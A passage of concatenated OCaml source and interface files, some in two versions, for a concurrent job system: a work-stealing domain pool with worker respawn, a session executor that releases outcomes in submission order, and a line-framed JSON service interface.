  t.next_seq <- seq + 1;
  Mutex.unlock t.mu;
  Pool.submit t.pool (fun w -> run_one t job seq w);
  seq

let close t =
  Mutex.lock t.mu;
  t.closed <- true;
  Condition.broadcast t.cv;
  Mutex.unlock t.mu

let next t =
  Mutex.lock t.mu;
  let rec wait () =
    match Hashtbl.find_opt t.ready t.next_out with
    | Some o ->
      Hashtbl.remove t.ready t.next_out;
      t.next_out <- t.next_out + 1;
      Mutex.unlock t.mu;
      Some o
    | None ->
      if t.closed && t.next_out >= t.next_seq then begin
        Mutex.unlock t.mu;
        None
      end
      else begin
        Condition.wait t.cv t.mu;
        wait ()
      end
  in
  wait ()

let run_all t jobs =
  let n = List.length jobs in
  List.iter (fun j -> ignore (submit t j)) jobs;
  List.init n (fun _ ->
      match next t with
      | Some o -> o
      | None -> assert false (* [next] only returns None once closed *))

let stats t = Pool.stats t.pool

let shutdown t =
  close t;
  Pool.shutdown t.pool
