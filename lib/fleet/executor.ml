(* Session executor over Pool: submits Engine sessions, returns
   outcomes in submission order.

   Sharing model: the caller's engines are compiled once; [create]
   gives every worker its own [Hth.Engine.fork] of each (shared
   compiled policy / trust / config, private image cache, taint-space
   pool and guest memory pool).  Forks are keyed by (worker slot,
   epoch): when a wedged worker is respawned, the replacement gets a
   fresh fork while the abandoned ghost keeps the one it was handed —
   so no mutable engine state ever crosses domains, even during the
   handover race.

   Ordering: submissions get a dense sequence number; finished
   outcomes land in a reorder buffer and [next] releases them strictly
   in sequence, so downstream output is byte-identical to a sequential
   run no matter how the pool interleaved.

   Supervision: each job may carry a wall-clock deadline.  A running
   job is tracked (worker, epoch, start time); [force_timeout]
   synthesizes an [Error Timeout] outcome at the job's sequence
   position so the reorder buffer never stalls on a wedged session,
   and the eventual late completion — if it ever comes — is detected
   and dropped.  [respawn] re-forks the slot's engines and replaces
   the worker domain (see Pool.respawn). *)

type job = {
  j_engine : string;
  j_setup : Hth.Engine.setup;
  j_budgets : Hth.Engine.budgets;
  j_fault : Osim.Fault.plan;
  j_trace : bool;
  j_store : bool;
  j_deadline : float option;  (* wall-clock seconds *)
}

let job ?(engine = "default") ?(budgets = Hth.Engine.no_budgets)
    ?(fault = Osim.Fault.none) ?(trace = false) ?(store = false) ?deadline
    setup =
  { j_engine = engine; j_setup = setup; j_budgets = budgets;
    j_fault = fault; j_trace = trace; j_store = store; j_deadline = deadline }

let with_deadline j seconds = { j with j_deadline = Some seconds }

let deadline j = j.j_deadline

type outcome = {
  o_seq : int;
  o_trace : string option;
  o_segment : Store.Segment.sealed option;
  o_result : (Hth.Engine.result, Hth.Error.t) Stdlib.result;
}

type running = {
  rw_worker : int;
  rw_epoch : int;
  rw_started : float;
  rw_deadline : float option;
}

type t = {
  pool : Pool.t;
  parents : (string * Hth.Engine.t) list;  (* for re-forking on respawn *)
  forks : (string * (int * int, Hth.Engine.t) Hashtbl.t) list;
      (* name -> (worker, epoch) -> private fork; under [mu] *)
  mu : Mutex.t;
  cv : Condition.t;
  ready : (int, outcome) Hashtbl.t;  (* finished, not yet released *)
  running : (int, running) Hashtbl.t;  (* in flight on a worker *)
  mutable next_seq : int;  (* next sequence number to assign *)
  mutable next_out : int;  (* next sequence number [next] releases *)
  mutable closed : bool;
}

let create ?(jobs = 1) engines =
  let jobs = max 1 jobs in
  let forks =
    List.map
      (fun (name, e) ->
        let tbl = Hashtbl.create (2 * jobs) in
        for w = 0 to jobs - 1 do
          Hashtbl.replace tbl (w, 0) (Hth.Engine.fork e)
        done;
        name, tbl)
      engines
  in
  { pool = Pool.create ~jobs ();
    parents = engines;
    forks;
    mu = Mutex.create ();
    cv = Condition.create ();
    ready = Hashtbl.create 64;
    running = Hashtbl.create 16;
    next_seq = 0;
    next_out = 0;
    closed = false }

let jobs t = Pool.jobs t.pool

let epoch t w = Pool.epoch t.pool w

(* Under [mu]: has [seq]'s outcome already been recorded or released?
   Releases are strictly sequential, so the released set is exactly
   [0, next_out). *)
let done_already t seq = seq < t.next_out || Hashtbl.mem t.ready seq

(* Record an outcome unless a forced timeout beat us to it (a late
   completion from an abandoned worker must never displace the
   deterministic release order downstream has already seen). *)
let post t seq outcome =
  Mutex.lock t.mu;
  Hashtbl.remove t.running seq;
  if not (done_already t seq) then begin
    Hashtbl.replace t.ready seq outcome;
    Condition.broadcast t.cv
  end;
  Mutex.unlock t.mu

(* Runs on a worker domain.  Every failure path (unknown engine,
   session error, escaped exception) becomes an ordinary outcome so
   the sequence stays gap-free and the worker survives. *)
let run_one t job seq w epoch =
  let fork =
    Mutex.lock t.mu;
    let f =
      match List.assoc_opt job.j_engine t.forks with
      | None -> None
      | Some tbl -> Hashtbl.find_opt tbl (w, epoch)
    in
    Mutex.unlock t.mu;
    f
  in
  match fork with
  | None ->
    post t seq
      { o_seq = seq;
        o_trace = None;
        o_segment = None;
        o_result =
          Error
            (Hth.Error.Policy_error
               (Printf.sprintf "fleet: unknown engine %S" job.j_engine)) }
  | Some eng ->
    Mutex.lock t.mu;
    Hashtbl.replace t.running seq
      { rw_worker = w; rw_epoch = epoch;
        rw_started = Unix.gettimeofday (); rw_deadline = job.j_deadline };
    Mutex.unlock t.mu;
    let buf = if job.j_trace then Some (Buffer.create 4096) else None in
    let writer =
      if job.j_store then Some (Store.Segment.Writer.create ()) else None
    in
    (* the engine owns the sink lifecycle ([?trace]); with both capture
       kinds requested, one chunked sink tees into buffer and writer so
       the bytes are identical by construction *)
    let trace =
      match (buf, writer) with
      | None, None -> None
      | Some b, None -> Some (Obs.Trace.buffer_target b)
      | None, Some w -> Some (Store.Segment.Writer.target w)
      | Some b, Some w ->
        Some
          (Obs.Trace.chunk_target (fun chunk ->
               Buffer.add_string b chunk;
               Store.Segment.Writer.add_chunk w chunk))
    in
    let result =
      try
        Hth.Engine.run_outcome eng ~budgets:job.j_budgets ~fault:job.j_fault
          ?trace job.j_setup
      with exn ->
        Error
          (Hth.Error.Crash { phase = "fleet"; exn = Printexc.to_string exn })
    in
    post t seq
      { o_seq = seq;
        o_trace = Option.map Buffer.contents buf;
        o_segment = Option.map Store.Segment.Writer.seal writer;
        o_result = result }

let try_submit t job =
  Mutex.lock t.mu;
  if t.closed then begin
    Mutex.unlock t.mu;
    None
  end
  else begin
    let seq = t.next_seq in
    t.next_seq <- seq + 1;
    Mutex.unlock t.mu;
    Pool.submit t.pool (fun w epoch -> run_one t job seq w epoch);
    Some seq
  end

let submit t job =
  match try_submit t job with
  | Some seq -> seq
  | None -> invalid_arg "Fleet.Executor.submit: executor is closed"

let close t =
  Mutex.lock t.mu;
  t.closed <- true;
  Condition.broadcast t.cv;
  Mutex.unlock t.mu

let next t =
  Mutex.lock t.mu;
  let rec wait () =
    match Hashtbl.find_opt t.ready t.next_out with
    | Some o ->
      Hashtbl.remove t.ready t.next_out;
      t.next_out <- t.next_out + 1;
      Mutex.unlock t.mu;
      Some o
    | None ->
      if t.closed && t.next_out >= t.next_seq then begin
        Mutex.unlock t.mu;
        None
      end
      else begin
        Condition.wait t.cv t.mu;
        wait ()
      end
  in
  wait ()

let pending t =
  Mutex.lock t.mu;
  let n = t.next_seq - t.next_out in
  Mutex.unlock t.mu;
  n

let overdue t ~now =
  Mutex.lock t.mu;
  let o =
    Hashtbl.fold
      (fun seq r acc ->
        match r.rw_deadline with
        | Some d when now -. r.rw_started > d -> seq :: acc
        | _ -> acc)
      t.running []
  in
  Mutex.unlock t.mu;
  List.sort compare o

let force_timeout t seq =
  Mutex.lock t.mu;
  let r =
    match Hashtbl.find_opt t.running seq with
    | None -> None  (* completed (or already forced) in the meantime *)
    | Some ri ->
      Hashtbl.remove t.running seq;
      if not (done_already t seq) then begin
        Hashtbl.replace t.ready seq
          { o_seq = seq;
            o_trace = None;
            o_segment = None;
            o_result =
              Error
                (Hth.Error.Timeout
                   { seconds =
                       Option.value ~default:0. ri.rw_deadline }) };
        Condition.broadcast t.cv
      end;
      Some (ri.rw_worker, ri.rw_epoch)
  in
  Mutex.unlock t.mu;
  r

let respawn t w =
  (* the replacement's fork must exist before the replacement spawns;
     only one supervising caller drives respawns, so the next epoch is
     exactly current + 1 *)
  let next_epoch = Pool.epoch t.pool w + 1 in
  Mutex.lock t.mu;
  List.iter
    (fun (name, tbl) ->
      let parent = List.assoc name t.parents in
      Hashtbl.replace tbl (w, next_epoch) (Hth.Engine.fork parent))
    t.forks;
  Mutex.unlock t.mu;
  let e = Pool.respawn t.pool w in
  assert (e = next_epoch)

let run_all t jobs =
  let n = List.length jobs in
  List.iter (fun j -> ignore (submit t j)) jobs;
  List.init n (fun _ ->
      match next t with
      | Some o -> o
      | None -> assert false (* [next] only returns None once closed *))

let stats t = Pool.stats t.pool

let shutdown t =
  close t;
  Pool.shutdown t.pool
