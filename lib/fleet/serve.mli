(** Line-framed JSON job service over one shared, supervised fleet.

    A {!service} compiles both engines (native and clips policies)
    exactly once and owns a {!Supervisor.t}; any number of concurrent
    connections attach with {!serve_connection} and multiplex onto the
    same worker domains.

    Each input line is one flat JSON request (the {!Forensics.Jsonl}
    dialect): [{"scenario":NAME}] plus optional [id] (echoed), [policy]
    (["native"]|["clips"]), [seed] or [fault_plan] (deterministic fault
    injection, mutually exclusive), [budget] (["KEY=N,KEY=N"]), and
    [op] (["run"] default; ["health"], ["stats"], ["store_stats"] and
    ["store_query"] answer from the supervisor, the serve telemetry
    and the attached warehouse without occupying a fleet slot).  An
    [op:"store_query"] request carries [kind] (["query"] default, with
    filter fields [scenario]/[rule]/[severity]/[resource]/[verdict];
    ["profile"]; or ["diff"] with required [run]) plus an optional
    row [limit] (default 50), and is answered from manifests and
    segment indexes via {!Store.Fleet_query} — the fleet-forensics
    surface of [hth_trace fleet], served remotely.  Each request yields
    exactly one response line, emitted
    {e in that connection's input order} even though sessions run on
    the fleet in whatever order stealing produces.  Malformed lines
    become [{"status":"bad_request"}] responses at their position.

    Overload and shutdown policy (DESIGN.md §17): the per-connection
    in-flight window {e blocks the reader} — backpressure that cannot
    change response content — while the supervisor's global cap
    answers [{"status":"overloaded","retry":true}] and a draining
    service answers [{"status":"shutting_down","retry":false}].  Run
    responses are session-deterministic (byte-identical across runs
    and [--jobs] for a fixed per-connection script); overloaded lines,
    wall-clock [timeout] errors and health/stats telemetry are the
    documented nondeterministic exceptions.

    The transport is abstract ([input]/[output] closures), so the same
    loop serves stdin/stdout, a Unix socket (see bin/hth_serve), or an
    in-process test. *)

(** What a scenario name resolves to. *)
type target = {
  t_setup : Hth.Engine.setup;
  t_expected : string;  (** label echoed in responses *)
  t_matches : Hth.Report.verdict -> bool;
}

type resolver = string -> target option

type service

(** [create ~resolver ()] compiles the engines and starts the
    supervisor (watchdog included) and the collector thread.

    [jobs] sizes the fleet (default 1); [deadline] (seconds) is the
    wall-clock watchdog budget applied to every request (omit to run
    unsupervised); [max_inflight] (default 256) is the global
    admission cap shared by all connections; [window] (default 64)
    bounds each connection's in-flight requests by blocking its
    reader; [default_ticks] (default 0 = off) gives budget-less
    requests a deterministic tick budget so runaway-but-ticking guests
    fail long before the wall-clock deadline.

    [store] attaches a trace warehouse: every run request then records
    a sealed segment plus manifest entry (run id [scenario@seq], error
    outcomes included as [error:<kind>]), appended by the collector
    {e before} the response line is emitted — a response in hand means
    the run is already durable, so a SIGTERM-drained server leaves
    complete runs or no run, never a torn one.  The warehouse is the
    caller's to {!Store.Warehouse.close} after {!shutdown}. *)
val create :
  ?jobs:int ->
  ?deadline:float ->
  ?max_inflight:int ->
  ?window:int ->
  ?default_ticks:int ->
  ?store:Store.Warehouse.t ->
  resolver:resolver ->
  unit ->
  service

(** The service's supervisor — health snapshots for tests and front
    ends; don't drive its lifecycle directly ({!shutdown} does). *)
val supervisor : service -> Supervisor.t

(** Refuse new run requests from now on: subsequent submissions answer
    [shutting_down].  Health/stats still answer.  Idempotent. *)
val drain : service -> unit

(** [serve_connection svc ~input ~output ()] serves one connection
    until [input] returns [None], waits for the connection's admitted
    jobs to be answered, and returns the number of requests answered.
    Safe to call from many threads concurrently — that {e is} the
    point.  [output] is called once per response line (no trailing
    newline), possibly from the collector thread, never concurrently
    with itself for one connection.  An [output] that raises marks the
    connection dead: remaining responses are dropped, the fleet and
    other connections are unaffected, and [serve_connection] still
    returns normally. *)
val serve_connection :
  service ->
  input:(unit -> string option) ->
  output:(string -> unit) ->
  unit ->
  int

(** Drain, wait for every admitted job to be answered, then tear down
    the supervisor, fleet and collector.  Call after the connection
    readers have finished. *)
val shutdown : service -> unit

(** [run ~resolver ~input ~output ()] is the whole single-transport
    lifecycle: {!create}, one {!serve_connection}, {!shutdown};
    returns the number of requests answered. *)
val run :
  ?jobs:int ->
  resolver:resolver ->
  input:(unit -> string option) ->
  output:(string -> unit) ->
  unit ->
  int
