(** Line-framed JSON job service over the executor.

    Each input line is one flat JSON request (the {!Forensics.Jsonl}
    dialect): [{"scenario":NAME}] plus optional [id] (echoed), [policy]
    (["native"]|["clips"]), [seed] or [fault_plan] (deterministic fault
    injection, mutually exclusive), [budget] (["KEY=N,KEY=N"]).  Each
    request yields exactly one response line — verdict, expected label,
    match flag, warning counts and the deduplicated findings with
    evidence — emitted {e in input order} even though sessions run on
    the fleet in whatever order stealing produces.  Malformed lines
    become [{"status":"bad_request"}] responses at their position.

    The transport is abstract ([input]/[output] closures), so the same
    loop serves stdin/stdout, a Unix socket (see bin/hth_serve), or an
    in-process test. *)

(** What a scenario name resolves to. *)
type target = {
  t_setup : Hth.Engine.setup;
  t_expected : string;  (** label echoed in responses *)
  t_matches : Hth.Report.verdict -> bool;
}

type resolver = string -> target option

(** [run ~resolver ~input ~output ()] serves requests until [input]
    returns [None], then drains and returns the number of requests
    answered.  [jobs] (default 1) sizes the fleet; [output] is called
    once per response line (without trailing newline), possibly from a
    different domain than the caller's, never concurrently with
    itself. *)
val run :
  ?jobs:int ->
  resolver:resolver ->
  input:(unit -> string option) ->
  output:(string -> unit) ->
  unit ->
  int
