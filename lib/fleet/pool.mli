(** N-domain work-stealing task pool.

    [jobs] worker domains pull from a sharded injector queue into
    per-worker {!Deque}s and steal from each other when their own work
    runs out.  Tasks receive the index of the worker running them
    (0-based) — the executor uses it to pick that worker's private
    engine fork.

    A task must not raise: anything that escapes is swallowed, counted
    under [fleet.exceptions], and the worker moves on — one broken task
    never takes down the pool (see also {!Executor}, which confines
    session failures to typed outcomes before they ever reach here).

    Each worker accumulates observability state (counters, histograms,
    traces) domain-locally; {!shutdown} folds the shards back into the
    calling domain in worker-index order, which makes the merged
    counters deterministic for a fixed job set regardless of how the
    stealing interleaved. *)

type task = int -> unit

type t

(** Scheduler telemetry (monotone; readable live from any domain). *)
type stats = {
  executed : int;  (** tasks completed *)
  stolen : int;  (** tasks taken from another worker's deque *)
  injected : int;  (** tasks submitted *)
  parks : int;  (** times a worker went to sleep empty-handed *)
  exceptions : int;  (** tasks that escaped with an exception *)
}

(** [create ~jobs ()] spawns [max 1 jobs] worker domains, idle until
    work arrives.  [chunk] (default 4) bounds how many injector tasks a
    worker moves into its own deque per grab — the knob that gives
    thieves something to steal. *)
val create : ?chunk:int -> jobs:int -> unit -> t

val jobs : t -> int

(** [submit p task] enqueues [task]; any domain may call this (the pool
    itself must not — workers do not submit).  Raises [Invalid_argument]
    after {!shutdown}. *)
val submit : t -> task -> unit

(** Block until every submitted task has finished. *)
val drain : t -> unit

(** [shutdown p] drains, stops and joins all workers, then absorbs
    their observability shards into the calling domain (worker-index
    order).  The pool is unusable afterwards. *)
val shutdown : t -> unit

val stats : t -> stats
