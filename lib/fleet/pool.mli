(** N-domain work-stealing task pool with worker supervision.

    [jobs] worker domains pull from a sharded injector queue into
    per-worker {!Deque}s and steal from each other when their own work
    runs out.  Tasks receive the index of the worker running them
    (0-based) and that worker's {e epoch} — the slot's incarnation
    number, bumped each time {!respawn} replaces a wedged worker.
    Layers above key per-worker mutable state (engine forks) by
    [(slot, epoch)] so a live replacement and a not-yet-dead ghost
    never share it.

    A task must not raise: anything that escapes is swallowed, counted
    under [fleet.exceptions], and the worker moves on — one broken task
    never takes down the pool (see also {!Executor}, which confines
    session failures to typed outcomes before they ever reach here).

    Domains cannot be killed, so a worker stuck inside a task is
    {e abandoned}, not destroyed: {!respawn} writes its in-flight task
    off the books, rescues its queued work, and spawns a replacement
    on the same slot.  If the ghost's task ever returns, the worker
    notices the stale epoch, hands back anything left on its private
    deque and exits; it is never joined (it may never return) and its
    observability shard is lost with it.

    Each live worker accumulates observability state (counters,
    histograms, traces) domain-locally; {!shutdown} folds the shards
    back into the calling domain in worker-index order, which makes the
    merged counters deterministic for a fixed job set regardless of how
    the stealing interleaved. *)

type task = int -> int -> unit
(** [task worker epoch] *)

type t

(** Scheduler telemetry (monotone; readable live from any domain). *)
type stats = {
  executed : int;  (** tasks completed *)
  stolen : int;  (** tasks taken from another worker's deque *)
  injected : int;  (** tasks submitted *)
  parks : int;  (** times a worker went to sleep empty-handed *)
  exceptions : int;  (** tasks that escaped with an exception *)
  respawns : int;  (** wedged workers replaced *)
}

(** [create ~jobs ()] spawns [max 1 jobs] worker domains, idle until
    work arrives.  [chunk] (default 4) bounds how many injector tasks a
    worker moves into its own deque per grab — the knob that gives
    thieves something to steal. *)
val create : ?chunk:int -> jobs:int -> unit -> t

val jobs : t -> int

(** [epoch p w] is slot [w]'s current incarnation number (0 until the
    first {!respawn}). *)
val epoch : t -> int -> int

(** [submit p task] enqueues [task]; any domain may call this (the pool
    itself must not — workers do not submit).  Raises [Invalid_argument]
    after {!shutdown}. *)
val submit : t -> task -> unit

(** [respawn p w] abandons slot [w]'s current worker (presumed wedged
    inside a task) and spawns a replacement; returns the replacement's
    epoch.  The wedged task is counted as finished immediately so
    {!drain} cannot hang on it; queued tasks from the abandoned deque
    are re-injected.  One supervising caller at a time.  Raises
    [Invalid_argument] after {!shutdown}. *)
val respawn : t -> int -> int

(** Block until every submitted task has finished (or been written off
    by {!respawn}). *)
val drain : t -> unit

(** [shutdown p] drains, stops and joins all live workers, then absorbs
    their observability shards into the calling domain (worker-index
    order).  Abandoned workers are not joined.  The pool is unusable
    afterwards. *)
val shutdown : t -> unit

val stats : t -> stats
