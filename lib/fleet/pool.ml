(* N-domain work-stealing pool over stdlib Domain/Mutex/Condition.

   Topology: a sharded injector (one locked FIFO per worker, submits
   round-robin) feeds per-worker Chase-Lev deques.  A worker looks for
   work in warmth order — own deque, then injector shards (taking a
   chunk: run one, deque the rest, where thieves can reach them), then
   stealing from other workers' deques.

   Parking protocol: [gen] (under [lock]) counts work-arrival events —
   every submission and every chunk-move into a stealable deque bumps
   it and broadcasts.  A worker snapshots [gen] under the lock *before*
   scanning; if the scan comes up empty it sleeps until [gen] moves.
   Work arriving after the snapshot flips the predicate (no lost
   wakeup); work that existed before the snapshot was either found by
   the scan or legitimately claimed by someone else — in which case
   sleeping is correct.  Crucially a worker that loses every race goes
   to sleep rather than rescanning: on an oversubscribed host, spinning
   idle domains steal the cores from the domains doing the work (and
   drag every stop-the-world minor GC into a context-switch storm).

   Observability: scheduler counters (fleet.tasks / steals / parks /
   exceptions) are incremented between task executions, never inside
   one, so they cannot leak into a session's per-run counter diff or
   trace.  Each worker accumulates all its Obs state domain-locally;
   at [shutdown] the shards are folded into the caller's domain in
   worker-index order — a deterministic merge (see Obs.absorb). *)

type task = int -> unit

type stats = {
  executed : int;
  stolen : int;
  injected : int;
  parks : int;
  exceptions : int;
}

type t = {
  jobs : int;
  chunk : int;
  deques : task Deque.t array;
  shards : task Queue.t array;
  shard_mu : Mutex.t array;
  rr : int Atomic.t;  (* round-robin submit cursor *)
  stop : bool Atomic.t;
  lock : Mutex.t;
  work_cv : Condition.t;  (* "new work arrived" *)
  done_cv : Condition.t;  (* "a task finished" *)
  mutable gen : int;  (* work-arrival generation; under [lock] *)
  mutable submitted : int;  (* under [lock] *)
  mutable finished : int;  (* under [lock] *)
  s_executed : int Atomic.t;
  s_stolen : int Atomic.t;
  s_injected : int Atomic.t;
  s_parks : int Atomic.t;
  s_exceptions : int Atomic.t;
  exports : Obs.export option array;  (* worker Obs shards, set at exit *)
  mutable domains : unit Domain.t array;
}

let c_tasks = Obs.Counter.make "fleet.tasks"
let c_steals = Obs.Counter.make "fleet.steals"
let c_parks = Obs.Counter.make "fleet.parks"
let c_exceptions = Obs.Counter.make "fleet.exceptions"

(* Announce new claimable work.  Must not be called from inside
   [lock]. *)
let announce p =
  Mutex.lock p.lock;
  p.gen <- p.gen + 1;
  Condition.broadcast p.work_cv;
  Mutex.unlock p.lock

let exec p w task =
  (try task w
   with _ ->
     (* tasks are expected to confine their own failures (the executor
        wraps sessions); anything that still escapes is counted and
        dropped so one bad task cannot take its worker down *)
     Atomic.incr p.s_exceptions;
     Obs.Counter.incr c_exceptions);
  Atomic.incr p.s_executed;
  Obs.Counter.incr c_tasks;
  Mutex.lock p.lock;
  p.finished <- p.finished + 1;
  Condition.broadcast p.done_cv;
  Mutex.unlock p.lock

(* Scan injector shards (own shard first); move up to [chunk] tasks
   out of the first non-empty one — run the first, push the rest onto
   our deque where thieves can reach them. *)
let from_injector p w =
  let first = ref None in
  let moved = ref 0 in
  let i = ref 0 in
  while !first = None && !i < p.jobs do
    let s = (w + !i) mod p.jobs in
    Mutex.lock p.shard_mu.(s);
    let q = p.shards.(s) in
    if not (Queue.is_empty q) then begin
      first := Some (Queue.pop q);
      while !moved < p.chunk - 1 && not (Queue.is_empty q) do
        Deque.push p.deques.(w) (Queue.pop q);
        incr moved
      done
    end;
    Mutex.unlock p.shard_mu.(s);
    incr i
  done;
  if !moved > 0 then announce p;
  !first

let try_steal p w =
  let rec scan k =
    if k >= p.jobs then None
    else
      match Deque.steal p.deques.((w + k) mod p.jobs) with
      | Some _ as r ->
        Atomic.incr p.s_stolen;
        Obs.Counter.incr c_steals;
        r
      | None -> scan (k + 1)
  in
  scan 1

let read_gen p =
  Mutex.lock p.lock;
  let g = p.gen in
  Mutex.unlock p.lock;
  g

(* Sleep until the generation moves past the pre-scan snapshot [g].
   Returns [false] when the pool is stopping. *)
let park p g =
  Mutex.lock p.lock;
  let waited = ref false in
  while (not (Atomic.get p.stop)) && p.gen = g do
    if not !waited then begin
      waited := true;
      Atomic.incr p.s_parks;
      Obs.Counter.incr c_parks
    end;
    Condition.wait p.work_cv p.lock
  done;
  Mutex.unlock p.lock;
  not (Atomic.get p.stop)

let worker p w =
  let rec loop () =
    if Atomic.get p.stop then ()
    else begin
      (* snapshot before scanning: any work announced after this point
         flips the park predicate *)
      let g = read_gen p in
      match Deque.pop p.deques.(w) with
      | Some task ->
        exec p w task;
        loop ()
      | None -> (
        match from_injector p w with
        | Some task ->
          exec p w task;
          loop ()
        | None -> (
          match try_steal p w with
          | Some task ->
            exec p w task;
            loop ()
          | None -> if park p g then loop ()))
    end
  in
  loop ();
  (* hand this domain's Obs shard (counters, histograms) to shutdown *)
  p.exports.(w) <- Some (Obs.export ())

let create ?(chunk = 4) ~jobs () =
  let jobs = max 1 jobs in
  let p =
    { jobs;
      chunk = max 1 chunk;
      deques = Array.init jobs (fun _ -> Deque.create ());
      shards = Array.init jobs (fun _ -> Queue.create ());
      shard_mu = Array.init jobs (fun _ -> Mutex.create ());
      rr = Atomic.make 0;
      stop = Atomic.make false;
      lock = Mutex.create ();
      work_cv = Condition.create ();
      done_cv = Condition.create ();
      gen = 0;
      submitted = 0;
      finished = 0;
      s_executed = Atomic.make 0;
      s_stolen = Atomic.make 0;
      s_injected = Atomic.make 0;
      s_parks = Atomic.make 0;
      s_exceptions = Atomic.make 0;
      exports = Array.make jobs None;
      domains = [||] }
  in
  p.domains <- Array.init jobs (fun w -> Domain.spawn (fun () -> worker p w));
  p

let jobs p = p.jobs

let submit p task =
  if Atomic.get p.stop then invalid_arg "Fleet.Pool.submit: pool is shut down";
  let s = Atomic.fetch_and_add p.rr 1 mod p.jobs in
  Mutex.lock p.shard_mu.(s);
  Queue.push task p.shards.(s);
  Mutex.unlock p.shard_mu.(s);
  Atomic.incr p.s_injected;
  Mutex.lock p.lock;
  p.submitted <- p.submitted + 1;
  p.gen <- p.gen + 1;
  Condition.broadcast p.work_cv;
  Mutex.unlock p.lock

let drain p =
  Mutex.lock p.lock;
  while p.finished < p.submitted do
    Condition.wait p.done_cv p.lock
  done;
  Mutex.unlock p.lock

let shutdown p =
  drain p;
  Atomic.set p.stop true;
  Mutex.lock p.lock;
  Condition.broadcast p.work_cv;
  Mutex.unlock p.lock;
  Array.iter Domain.join p.domains;
  (* fold worker Obs shards into this domain, in worker-index order:
     the merge result is independent of how tasks were interleaved *)
  Array.iter (function Some x -> Obs.absorb x | None -> ()) p.exports

let stats p =
  { executed = Atomic.get p.s_executed;
    stolen = Atomic.get p.s_stolen;
    injected = Atomic.get p.s_injected;
    parks = Atomic.get p.s_parks;
    exceptions = Atomic.get p.s_exceptions }
