(* N-domain work-stealing pool over stdlib Domain/Mutex/Condition.

   Topology: a sharded injector (one locked FIFO per worker, submits
   round-robin) feeds per-worker Chase-Lev deques.  A worker looks for
   work in warmth order — own deque, then injector shards (taking a
   chunk: run one, deque the rest, where thieves can reach them), then
   stealing from other workers' deques.

   Parking protocol: [gen] (under [lock]) counts work-arrival events —
   every submission and every chunk-move into a stealable deque bumps
   it and broadcasts.  A worker snapshots [gen] under the lock *before*
   scanning; if the scan comes up empty it sleeps until [gen] moves.
   Work arriving after the snapshot flips the predicate (no lost
   wakeup); work that existed before the snapshot was either found by
   the scan or legitimately claimed by someone else — in which case
   sleeping is correct.  Crucially a worker that loses every race goes
   to sleep rather than rescanning: on an oversubscribed host, spinning
   idle domains steal the cores from the domains doing the work (and
   drag every stop-the-world minor GC into a context-switch storm).

   Supervision: a domain cannot be killed, so a wedged worker (a task
   that never returns) is *abandoned*: [respawn] bumps the slot's
   epoch, writes the stuck task off the finished count, rescues
   whatever still sits in the old deque, and spawns a replacement
   domain on the same slot.  The abandoned domain, should its task
   ever return, notices the stale epoch: its own claimed work is still
   accounted (the write-off entry pays for exactly one in-flight task,
   whichever one the epoch bump caught), it re-injects anything left
   on its private deque, and it exits without touching the replacement
   worker's state.  Tasks receive their worker's epoch so layers above
   (the executor) can keep per-(slot, epoch) state — e.g. engine
   forks — that a live replacement and a not-yet-dead ghost never
   share.

   Observability: scheduler counters (fleet.tasks / steals / parks /
   exceptions / respawns) are incremented between task executions,
   never inside one, so they cannot leak into a session's per-run
   counter diff or trace.  Each worker accumulates all its Obs state
   domain-locally; at [shutdown] the shards are folded into the caller
   in worker-index order — a deterministic merge (see Obs.absorb).
   An abandoned domain's shard is lost with it. *)

type task = int -> int -> unit

type stats = {
  executed : int;
  stolen : int;
  injected : int;
  parks : int;
  exceptions : int;
  respawns : int;
}

type t = {
  jobs : int;
  chunk : int;
  deques : task Deque.t array;
  shards : task Queue.t array;
  shard_mu : Mutex.t array;
  rr : int Atomic.t;  (* round-robin submit cursor *)
  stop : bool Atomic.t;
  epochs : int Atomic.t array;  (* per-slot incarnation, bumped by respawn *)
  lock : Mutex.t;
  work_cv : Condition.t;  (* "new work arrived" *)
  done_cv : Condition.t;  (* "a task finished" *)
  mutable gen : int;  (* work-arrival generation; under [lock] *)
  mutable submitted : int;  (* under [lock] *)
  mutable finished : int;  (* under [lock] *)
  writeoffs : (int * int, unit) Hashtbl.t;
      (* (slot, epoch) whose in-flight task [respawn] already counted
         as finished; consumed by that task's own completion so the
         books balance exactly once.  Under [lock]. *)
  s_executed : int Atomic.t;
  s_stolen : int Atomic.t;
  s_injected : int Atomic.t;
  s_parks : int Atomic.t;
  s_exceptions : int Atomic.t;
  s_respawns : int Atomic.t;
  exports : Obs.export option array;  (* worker Obs shards, set at exit *)
  mutable domains : unit Domain.t array;
  mutable abandoned : unit Domain.t list;
      (* wedged incarnations; never joined — they may never return *)
}

let c_tasks = Obs.Counter.make "fleet.tasks"
let c_steals = Obs.Counter.make "fleet.steals"
let c_parks = Obs.Counter.make "fleet.parks"
let c_exceptions = Obs.Counter.make "fleet.exceptions"
let c_respawns = Obs.Counter.make "fleet.respawns"

(* Announce new claimable work.  Must not be called from inside
   [lock]. *)
let announce p =
  Mutex.lock p.lock;
  p.gen <- p.gen + 1;
  Condition.broadcast p.work_cv;
  Mutex.unlock p.lock

let exec p w epoch task =
  (try task w epoch
   with _ ->
     (* tasks are expected to confine their own failures (the executor
        wraps sessions); anything that still escapes is counted and
        dropped so one bad task cannot take its worker down *)
     Atomic.incr p.s_exceptions;
     Obs.Counter.incr c_exceptions);
  Atomic.incr p.s_executed;
  Obs.Counter.incr c_tasks;
  Mutex.lock p.lock;
  if Hashtbl.mem p.writeoffs (w, epoch) then
    (* [respawn] caught this incarnation mid-task and already counted
       one finish on its behalf — consume the credit instead of
       double-counting *)
    Hashtbl.remove p.writeoffs (w, epoch)
  else begin
    p.finished <- p.finished + 1;
    Condition.broadcast p.done_cv
  end;
  Mutex.unlock p.lock

(* Scan injector shards (own shard first); move up to [chunk] tasks
   out of the first non-empty one — run the first, push the rest onto
   our deque where thieves can reach them.  [dq] is the worker's own
   deque captured at spawn: a stale incarnation must keep using the
   deque it owns, never the replacement's. *)
let from_injector p w epoch dq =
  let first = ref None in
  let moved = ref 0 in
  let i = ref 0 in
  while !first = None && !i < p.jobs do
    let s = (w + !i) mod p.jobs in
    Mutex.lock p.shard_mu.(s);
    let q = p.shards.(s) in
    if not (Queue.is_empty q) then begin
      first := Some (Queue.pop q);
      (* a freshly-abandoned worker must not bury injector tasks in a
         deque nobody scans any more; the epoch check shrinks that
         window to a few instructions and the exit path re-injects
         whatever still slips through *)
      if Atomic.get p.epochs.(w) = epoch then
        while !moved < p.chunk - 1 && not (Queue.is_empty q) do
          Deque.push dq (Queue.pop q);
          incr moved
        done
    end;
    Mutex.unlock p.shard_mu.(s);
